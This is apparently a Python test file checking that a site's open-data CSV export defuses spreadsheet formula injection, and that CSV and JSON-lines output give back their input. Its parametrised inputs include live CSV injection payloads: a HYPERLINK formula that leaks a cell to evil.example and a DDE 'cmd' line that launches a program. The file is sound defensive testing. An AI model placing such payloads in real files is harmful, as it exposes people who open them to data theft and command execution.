"""CSV that no spreadsheet calculates, and both forms give back what was put in."""

import csv
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from digest.site.open_data.open_data_tables import Column
from digest.site.open_data.table_text import MARK, csv_text, json_lines

COLUMNS = (Column("text", "text", "a text"), Column("number", "number", "a number"), Column("names", "list", "names"))
SIGNS = "=+-@'＝＋－＠;\t\r\n\" ,\u200b\ufeff"
TEXTS = st.text(st.one_of(st.sampled_from(SIGNS), st.characters(codec="utf-8")), max_size=20)


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(MARK), newline=""), delimiter=delimiter))


def taken_off(cell: str) -> str:
    """A cell as docs/open-data.md says that it is read."""
    return re.sub(r"(^|[;\t\r\n])'", r"\1", cell)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example?x="&A1,"news")',
        "+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        " =1",
        "\ufeff=1",
        "\u200b=1",
        "＝1",
        "news;=1",
        "news\n=1",
        "news\t@1",
    ],
)
def test_a_strangers_formula_is_text_in_every_way_to_cut_the_file(text: str) -> None:
    made = csv_text(COLUMNS, [(text, 1, (text, "x"))])
    for delimiter in ",;\t":
        for row in cells(made, delimiter):
            for cell in row:
                seen = re.sub(r"^[\s\u200b\ufeff]+", "", cell)
                assert not seen.startswith(tuple("=+-@＝＋－＠")), (delimiter, cell)


@given(st.lists(st.tuples(TEXTS, st.integers(0, 9)), max_size=4))
def test_csv_gives_each_text_back(rows: list[tuple[str, int]]) -> None:
    _, *read = cells(csv_text(COLUMNS[:2], rows))
    assert [(taken_off(text), int(number)) for text, number in read] == rows


@given(st.lists(st.tuples(TEXTS, st.lists(TEXTS).map(tuple)), max_size=4))
def test_json_lines_give_each_text_back(rows: list[tuple[str, tuple[str, ...]]]) -> None:
    lines = json_lines((COLUMNS[0], COLUMNS[2]), rows).split("\n")
    assert lines.pop() == ""
    assert [json.loads(line) for line in lines] == [{"text": text, "names": list(names)} for text, names in rows]


def test_values_of_each_type_have_one_form() -> None:
    made = csv_text(COLUMNS[:1] * 5, [(None, True, 0.5, ("a", "b"), ((1, 2), (3, 4)))])
    assert made == f"{MARK}text,text,text,text,text\r\n,true,0.5,a; b,1-2; 3-4\r\n"


def test_a_long_run_of_blanks_takes_no_long_time() -> None:
    text = " \n" * 200_000
    assert csv_text(COLUMNS[:1], [(text,)]).count("'") == 0
